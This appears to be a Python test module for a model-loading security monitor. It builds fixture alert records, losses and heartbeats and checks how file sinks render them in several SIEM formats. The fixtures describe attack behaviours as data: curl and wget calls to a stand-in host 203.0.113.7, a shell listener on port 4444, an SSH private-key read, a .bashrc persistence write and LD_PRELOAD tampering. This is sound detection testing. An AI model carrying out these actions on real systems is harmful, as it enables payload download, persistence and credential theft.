"""One record of each kind that receivers have rules for, and what the courier makes of them."""

import contextlib
import copy
import json
import pathlib
import re
import time
import uuid

from conftest import PROGRAM, ROOT
from monitor import Monitor

EXAMPLE = json.loads(re.findall(r"```json\n(.*?)```", (ROOT / "docs" / "alerts.md").read_text(), re.S)[-1])
MODEL = {"hub": "huggingface", "repo": "someone/resnet", "revision": "c0ffee"}
DENIED = {"verdict": "deny", "requested": "deny"}
LET_GO = {"verdict": "alert", "mode": "alert", "outcome": "observed"}
OBSERVED = {"verdict": "observe", "requested": "observe", "outcome": "observed"}
COUNTS = re.findall(r'{"(\w+)", view->', (ROOT / "tools" / "daemon_status.c").read_text())
HEARTBEAT = {"schema": "modelwatch.heartbeat/1", "version": "0.1.0", "state": "running", "uptime": 61.5, "mode": "alert",
             "asked_mode": "alert", "policy_digest": "ad" * 32, "host": EXAMPLE["host"],
             "rung": {"exec": "lsm", "map": None}, "losses": {"ring": 0},
             **dict.fromkeys(COUNTS, 7)}


def exec_of(path, *argv):
    return {"op": "subprocess.Popen", "path": path, "executable": path, "executable_owner": 0,
            "argv": [path.split("/")[-1], *argv], "argv_cut": False, "facts": []}


def peer(op, address, port):
    return {"op": op, "address": address, "port": port, "path": None, "facts": []}


def file(op, path):
    return {"op": op, "path": path, "path2": None, "file": path, "file2": None, "number": 577, "facts": []}


ALERTS = {
    "shell": ("load-exec", "critical", "exec", exec_of("/bin/sh", "-c", "id"), {}),
    "program": ("load-exec", "critical", "exec", exec_of("/usr/bin/id"), {}),
    "fetch": ("load-exec", "critical", "exec", exec_of("/usr/bin/curl", "https://203.0.113.7/x"), {}),
    "fetching_shell": ("load-exec", "critical", "exec", exec_of("/bin/bash", "-c", "wget 203.0.113.7"),
                       {"title": "/data/m.pt tried to run `bash -c 'wget 203.0.113.7'`: prevented"}),
    "connection": ("load-connect", "critical", "connect", peer("connect", "203.0.113.7", 443), {}),
    "loopback": ("load-connect", "critical", "connect", peer("connect", "127.0.0.1", 4444), {}),
    "look_up": ("load-connect", "critical", "connect", peer("getaddrinfo", "x.example.org", None), {}),
    "sent": ("load-send", "high", "send", peer("sendto", "2001:db8::7", 53), {}),
    "listening": ("load-listen", "high", "listen", peer("bind", "0.0.0.0", 4444), {}),
    "written": ("load-write", "high", "write", file("os.rename", "/data/out") | {"path2": "/data/out.old"}, {}),
    "kept": ("persistence", "critical", "write", file("open", "/home/ada/.bashrc"), {}),
    "secret": ("secret-read", "critical", "read", file("open", "/home/ada/.ssh/id_ed25519"), {}),
    "mapped": ("load-map", "high", "map",
               {"op": "dlopen", "library": "/tmp/x.so", "file": "/tmp/x.so", "number": 5, "facts": []}, {}),
    "compiled": ("load-code", "high", "code", {"op": "compile", "target": "<string>", "number": None, "facts": []}, {}),
    "tampered": ("load-tamper", "critical", "tamper",
                 {"op": "os.putenv", "target": "LD_PRELOAD", "number": None, "facts": []}, {}),
    "too_much": ("load-limit", "medium", "limit", {"op": "memory", "target": None, "number": 1 << 30, "facts": []}, {}),
    "past_a_sensor": ("load-write", "critical", "write", file("openat", "/data/out2"),
                      {"evasion": True, "sensor": "syscall"}),
    "from_hub": ("load-write", "high", "write", file("open", "/data/out3"), {"model": MODEL}),
    "let_go": ("load-exec", "critical", "exec", exec_of("/usr/bin/touch", "/data/x"), LET_GO),
    "too_late": ("load-write", "critical", "write", file("open", "/data/out4"),
                 {"verdict": "kill", "mode": "kill", "outcome": "killed_after_effect"}),
    "unproved": ("unproved", "medium", "exec", exec_of("/usr/bin/ls"), {"requested": "alert", **LET_GO, "cause": "unknown"}),
    "imported": ("import-unknown", "low", "exec", exec_of("/bin/sh", "-c", "uname"), {**OBSERVED, "cause": "import"}),
}
SAY_SO = {"persistence", "unproved", "import-unknown"}  # the rules that have a severity of their own
LOSSES = {
    "lost": {"kind": "ring", "lost": 3, "reason": "the kernel's ring was full", "count": 3, "hooks": {"exec": 3}},
    "unwound": {"kind": "unwind", "lost": 0, "reason": "stacks were not unwound to their end", "count": 9, "hooks": {}},
    "evicted": {"kind": "spool-full", "lost": 40, "reason": "the spool was full", "count": 40, "severity": "high",
                "hooks": {"load-exec": 40}, "host": EXAMPLE["host"]},
    "refused": {"kind": "sink-refused", "lost": 0, "reason": "a receiver refused records for good", "count": 2,
                "severity": "high", "hooks": {"siem.v2": 2}, "host": EXAMPLE["host"]},
}
INVENTORY = {"schema": "modelwatch.inventory/1", "last": EXAMPLE["time"], "sensor": "kernel", "count": 3,
             "load": {"entry": "torch.load", "origin": "file", "outcome": None, "weights_only": None, "globals": None,
                      "duration_ns": None, "artifact": EXAMPLE["load"]["artifact"]},
             **{name: EXAMPLE[name] for name in ("process", "user", "host", "version", "labels")},
             "job": {"kind": "slurm", "id": "4711", "step": "0", "rank": 3, "trust": "cgroup"}, "container": None,
             "policy": {"digest": EXAMPLE["policy"]["digest"]}}
HEARTBEATS = {"there": {}, "stopping": {"state": "stopping"}}


def stamp(record):
    return {"schema": record["schema"], **record, "id": EXAMPLE["id"][:-12] + uuid.uuid4().hex[:12], "time": EXAMPLE["time"]}


def alert(rule, severity, effect, detail, other):
    record = copy.deepcopy(EXAMPLE)
    record |= {"rule": rule, "severity": severity, "effect": {"class": effect, "detail": detail}, **DENIED}
    own = severity if rule in SAY_SO else None
    record["policy"] |= {"rule": rule, "severity": own, "expired": None}
    record["title"] = f"/data/models/resnet18.pt had the effect {effect}: prevented"
    record["job"] = {"kind": "slurm", "id": "4711", "step": "0", "rank": 3, "trust": "cgroup"}
    record["container"] = {"id": "4f" * 32, "runtime": "containerd", "name": "train", "image": "images.example.org/t:1",
                           "pod": {"uid": "9a", "namespace": "ml", "name": "t-0"}, "trust": "cgroup"}
    record["user"]["groups"] = [1000]
    record["load"]["artifact"]["model"] = other.get("model")
    record["load"]["nested"] = False
    return stamp(record | {key: value for key, value in other.items() if key != "model"})


def make():
    """By name: alerts as the monitor tells them, losses and heartbeats."""
    records = {name: alert(*parts) for name, parts in ALERTS.items()}
    for name, loss in LOSSES.items():
        records[name] = stamp({"schema": "modelwatch.loss/1", "since": EXAMPLE["time"], "version": "0.1.0", **loss})
    for name, heartbeat in HEARTBEATS.items():
        records[name] = stamp(HEARTBEAT | heartbeat)
    records["loaded"] = stamp(copy.deepcopy(INVENTORY))
    return records


def lines(path):
    return pathlib.Path(path).read_text().splitlines() if pathlib.Path(path).exists() else []


@contextlib.contextmanager
def courier(folder, records, sinks):
    """A courier that has been told these records, as a monitor tells them, and has them on its disk."""
    spool = {"path": f"{folder}/spool/spool.db", "group": {"window": "off"},
             "per_minute": {"per_rule": "0", "per_artifact": "0"}}
    with Monitor(sinks, spool) as monitor:
        monitor.tell(records)
        yield
        monitor.close()


def render(folder):
    """The records of make() as file sinks write them: by format, by name, the lines."""
    records = make()
    formats = ("native", "ecs", "ocsf", "cef")
    sinks = {name: {"type": "file", "path": f"{folder}/{name}", "format": name, "observe": "true", "inventory": "true"} for name in formats}
    with courier(folder, list(records.values()), sinks):
        end = time.monotonic() + 30
        while any(len(lines(f"{folder}/{name}")) < len(records) for name in formats):
            assert time.monotonic() < end, {name: len(lines(f"{folder}/{name}")) for name in formats}
            time.sleep(0.02)
    return {name: dict(zip(records, lines(f"{folder}/{name}"), strict=True)) for name in formats}


def flat(value, lists="", path="", into=None):
    """A record's fields as receivers name them; of a list the first value, its name with `lists` after it."""
    into = {} if into is None else into
    if isinstance(value, dict):
        for name, member in value.items():
            flat(member, lists, f"{path}.{name}" if path else name, into)
    elif isinstance(value, list):
        for member in value:
            flat(member, lists, path + lists, into)
    elif value is not None:
        into.setdefault(path, value)
    return into


SEVERITIES = ["info", "low", "medium", "high", "critical"]


def rows(which):
    """Those of the table of that name in the section, by their first cell."""
    text = (ROOT / "docs" / "formats.md").read_text().partition("## Severities\n")[2].partition("\n## ")[0]
    part = text.partition(f"| {which} |")[2].partition("\n\n")[0]
    cells = [[cell.strip(" `") for cell in line.split("|")[1:-1]] for line in part.splitlines() if line.startswith("| `")]
    return {row[0]: row[1:-1] for row in cells}


TABLE, RULES = rows("effect"), rows("rule")


def told(effect, outcome, evasion=False):
    """What the table says."""
    level = SEVERITIES.index(TABLE[effect][outcome != "prevented"])
    return SEVERITIES[min(level + evasion, 4)]
